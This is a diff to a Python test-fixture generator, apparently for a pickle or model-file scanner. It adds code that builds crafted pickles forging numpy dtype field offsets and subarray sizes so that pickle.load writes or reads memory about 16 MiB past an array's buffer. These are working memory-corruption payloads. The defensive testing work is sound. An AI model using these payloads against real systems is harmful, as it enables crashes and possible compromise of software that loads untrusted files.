@@ -364,6 +364,49 @@ def numpy_forged_field_past_budget():
     return forged_array(fields_before=200)
 
 
+def layout_dtype(p, field_spec, offset, flags, subarray=None):
+    # numpy.dtype("V8") + BUILD (3, "|", subarray, names, fields, 8, 1, flags)
+    # with the field (or subarray) outside the 8-byte item.
+    p.g("numpy", "dtype").s("V8").op(0x89, 0x88).t3().reduce()
+    p.mark().i(3).s("|")
+    if subarray:
+        p.g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(subarray).t1().t2()
+        p.none().none()
+    else:
+        p.none().s("a").t1()
+        p.mark().s("a").g("numpy", "dtype").s(field_spec).op(0x89, 0x88).t3().reduce().i(offset).t2().op(b"d")
+    p.i(8).i(1).i(flags).tup().op(b"b")
+    return p
+
+
+def layout_array(data, **kw):
+    p = P(2).g("numpy.core.multiarray", "_reconstruct").g("numpy", "ndarray").i(0).t1().by(b"b").t3().reduce()
+    p.mark().i(1).i(1).t1()
+    layout_dtype(p, **kw)
+    p.op(0x89)
+    data(p)
+    return p.tup().op(b"b")
+
+
+def numpy_forged_field_offset_write():
+    # object field at offset 1<<24 of an 8-byte item, flags right (63):
+    # ndarray.__setstate__'s list path stores the item 16 MiB past the
+    # buffer during pickle.load itself.
+    return layout_array(lambda p: p.op(b"]").s("x").t1().op(b"a"), field_spec="O8", offset=1 << 24, flags=63).stop()
+
+
+def numpy_forged_field_offset_read():
+    # plain f8 field at offset 1<<24, data from raw bytes; str() reads it
+    p = P(2).g("builtins", "str")
+    p.b += layout_array(lambda p: p.by(b"A" * 8), field_spec="<f8", offset=1 << 24, flags=0).b[2:]
+    return p.t1().reduce().stop()
+
+
+def numpy_forged_subarray_overflow():
+    # subarray of 1<<22 objects in an 8-byte item, list path
+    return layout_array(lambda p: p.op(b"]").op(b"]").s("x").op(b"a").t1().op(b"a"), field_spec="O8", offset=0, flags=63, subarray=1 << 22).stop()
+
+
 # ---- containers: torch zip -------------------------------------------------
 
 def torch_zip_bytes(pkl, name="archive", extra=(), dup_first=None):
@@ -679,6 +722,9 @@ FIXTURES = [
     ("numpy_forged_object_dtype.pkl", numpy_forged_object_dtype, "numpy-dtype-flags-forged", "pickle.load", "crash"),
     ("numpy_forged_subarray.pkl", numpy_forged_subarray, "numpy-dtype-flags-forged", "pickle.load", "crash"),
     ("numpy_forged_field_past_budget.pkl", numpy_forged_field_past_budget, "numpy-dtype-flags-forged", "pickle.load", "crash"),
+    ("numpy_forged_field_offset_write.pkl", numpy_forged_field_offset_write, "numpy-dtype-layout-forged", "pickle.load", "crash"),
+    ("numpy_forged_field_offset_read.pkl", numpy_forged_field_offset_read, "numpy-dtype-layout-forged", "pickle.load", "crash"),
+    ("numpy_forged_subarray_overflow.pkl", numpy_forged_subarray_overflow, "numpy-dtype-layout-forged", "pickle.load", "crash"),
     ("numpy_object_elements.pkl", numpy_object_array_elements, "numpy-object-array-elements", "pickle.load", "runs"),
     ("zip_dup_data_pkl_evil_last.pt", zip_dup_data_pkl_evil_last, "zip-duplicate-member", "torch.load", "check"),
     ("zip_dup_data_pkl_evil_first.pt", zip_dup_data_pkl_evil_first, "zip-duplicate-member", "torch.load", "check"),
